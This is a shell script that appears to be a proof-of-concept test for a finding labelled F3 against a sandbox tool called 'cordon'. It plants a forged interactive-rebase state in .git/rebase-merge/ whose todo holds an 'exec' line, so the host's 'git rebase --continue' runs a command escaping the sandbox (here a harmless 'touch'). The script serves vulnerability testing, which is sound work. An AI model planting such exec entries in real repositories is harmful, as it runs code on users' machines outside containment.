#!/bin/sh
# F3 (MEDIUM-LOW): .git/ is writable except the listed subpaths. A run plants
# an interactive-rebase state (.git/rebase-merge/) whose todo holds
# "exec CMD"; 'git status' then says a rebase is in progress and
# 'git rebase --continue' on the host runs CMD. (.git/sequencer/,
# .git/rebase-apply/ are the same family.)
set -eu
C=${1:-build/cordon}; C=$(readlink -f "$C")
WS=$(mktemp -d); cd "$WS"; git init -q .
git -c user.name=a -c user.email=a@b commit -q --allow-empty -m init
"$C" run --rw "$WS" --cwd "$WS" -- sh -c '
H=$(git rev-parse HEAD); B=$(git symbolic-ref HEAD)
mkdir -p .git/rebase-merge && cd .git/rebase-merge && echo $B > head-name &&
echo $H > onto && echo $H > orig-head && : > interactive && echo 1 > msgnum &&
echo 1 > end && printf "exec touch /tmp/cordon-F3\n" > git-rebase-todo && : > done'
rm -f /tmp/cordon-F3
git status | head -3
git -c user.name=a -c user.email=a@b rebase --continue >/dev/null 2>&1 || true
if [ -e /tmp/cordon-F3 ]; then echo "VULNERABLE: rebase --continue ran the run's exec"; rm -f /tmp/cordon-F3; fi
